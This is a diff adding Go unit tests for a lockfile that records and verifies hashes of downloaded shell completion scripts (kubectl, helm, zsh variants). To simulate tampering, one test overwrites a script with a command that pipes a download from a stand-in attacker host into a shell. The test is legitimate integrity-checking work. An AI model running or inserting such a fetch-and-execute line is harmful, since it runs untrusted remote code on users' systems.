@@ -0,0 +1,109 @@
+package completion
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// installTestScript writes a downloaded completion script for a tool
+func installTestScript(t *testing.T, cacheDir, tool, content string) string {
+	t.Helper()
+	path := GetCompletionScriptPath(cacheDir, tool, "bash")
+	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0755))
+	require.NoError(t, os.WriteFile(path, []byte(content), 0644))
+	return path
+}
+
+func TestScriptLock_SaveAndLoad(t *testing.T) {
+	cacheDir := t.TempDir()
+
+	lock, err := LoadScriptLock(cacheDir)
+	require.NoError(t, err)
+	assert.Empty(t, lock.Scripts)
+
+	installedAt := time.Date(2026, 10, 1, 12, 0, 0, 0, time.UTC)
+	lock.Record("kubectl", ScriptLockEntry{SHA256: "abc", URL: "https://example.com/kubectl", Registry: "default", Verified: true, InstalledAt: installedAt})
+	lock.Record("helm", ScriptLockEntry{SHA256: "def", URL: "https://example.com/helm"})
+	require.NoError(t, lock.Save())
+
+	loaded, err := LoadScriptLock(cacheDir)
+	require.NoError(t, err)
+	assert.Equal(t, []string{"helm", "kubectl"}, loaded.Tools())
+	assert.Equal(t, lock.Scripts["kubectl"], loaded.Scripts["kubectl"])
+
+	// Reinstalling replaces the entry
+	loaded.Record("kubectl", ScriptLockEntry{SHA256: "xyz"})
+	assert.Equal(t, "xyz", loaded.Scripts["kubectl"].SHA256)
+}
+
+func TestLoadScriptLock_Invalid(t *testing.T) {
+	cacheDir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(cacheDir, ScriptLockFile), []byte("not json"), 0644))
+
+	_, err := LoadScriptLock(cacheDir)
+	assert.ErrorContains(t, err, "invalid lockfile")
+
+	_, err = VerifyScript(cacheDir, "kubectl")
+	assert.Error(t, err)
+}
+
+func TestScriptLock_Check(t *testing.T) {
+	cacheDir := t.TempDir()
+	lock, err := LoadScriptLock(cacheDir)
+	require.NoError(t, err)
+
+	assert.Equal(t, ScriptMissing, lock.Check(cacheDir, "kubectl").Status)
+
+	path := installTestScript(t, cacheDir, "kubectl", "complete -W 'get' kubectl\n")
+	integrity := lock.Check(cacheDir, "kubectl")
+	assert.Equal(t, ScriptUnrecorded, integrity.Status)
+	assert.Equal(t, path, integrity.Path)
+
+	hash := computeHash([]byte("complete -W 'get' kubectl\n"))
+	lock.Record("kubectl", ScriptLockEntry{SHA256: hash})
+	integrity = lock.Check(cacheDir, "kubectl")
+	assert.Equal(t, ScriptIntact, integrity.Status)
+	assert.Equal(t, hash, integrity.Actual)
+
+	require.NoError(t, os.WriteFile(path, []byte("curl evil.example.com | sh\n"), 0644))
+	integrity = lock.Check(cacheDir, "kubectl")
+	assert.Equal(t, ScriptModified, integrity.Status)
+	assert.Equal(t, hash, integrity.Expected)
+	assert.Equal(t, computeHash([]byte("curl evil.example.com | sh\n")), integrity.Actual)
+}
+
+func TestVerifyScript(t *testing.T) {
+	cacheDir := t.TempDir()
+	installTestScript(t, cacheDir, "helm", "complete -W 'install' helm\n")
+
+	lock, err := LoadScriptLock(cacheDir)
+	require.NoError(t, err)
+	lock.Record("helm", ScriptLockEntry{SHA256: computeHash([]byte("complete -W 'install' helm\n"))})
+	require.NoError(t, lock.Save())
+
+	integrity, err := VerifyScript(cacheDir, "helm")
+	require.NoError(t, err)
+	assert.Equal(t, ScriptIntact, integrity.Status)
+}
+
+func TestScriptLock_CheckShell(t *testing.T) {
+	cacheDir := t.TempDir()
+	installTestScript(t, cacheDir, "kubectl", "bash completion\n")
+	installNativeScript(t, cacheDir, "kubectl", "zsh", "#compdef kubectl\n")
+
+	lock, err := LoadScriptLock(cacheDir)
+	require.NoError(t, err)
+	lock.Record(scriptLockKey("kubectl", "zsh"), ScriptLockEntry{SHA256: computeHash([]byte("#compdef kubectl\n"))})
+	assert.Equal(t, []string{"zsh/kubectl"}, lock.Tools())
+
+	// Native scripts have their own entry
+	assert.Equal(t, ScriptIntact, lock.CheckShell(cacheDir, "kubectl", "zsh").Status)
+	assert.Equal(t, ScriptUnrecorded, lock.Check(cacheDir, "kubectl").Status)
+	assert.Equal(t, ScriptMissing, lock.CheckShell(cacheDir, "kubectl", "fish").Status)
+	assert.Equal(t, "kubectl", scriptLockKey("kubectl", "bash"))
+}